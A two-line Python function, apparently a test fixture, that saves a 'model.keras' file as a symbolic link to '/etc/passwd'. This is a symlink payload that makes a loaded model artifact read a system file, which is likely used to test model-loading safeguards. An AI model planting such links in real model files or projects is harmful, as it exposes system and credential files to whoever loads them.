def save(folder):
    (folder / "model.keras").symlink_to("/etc/passwd")
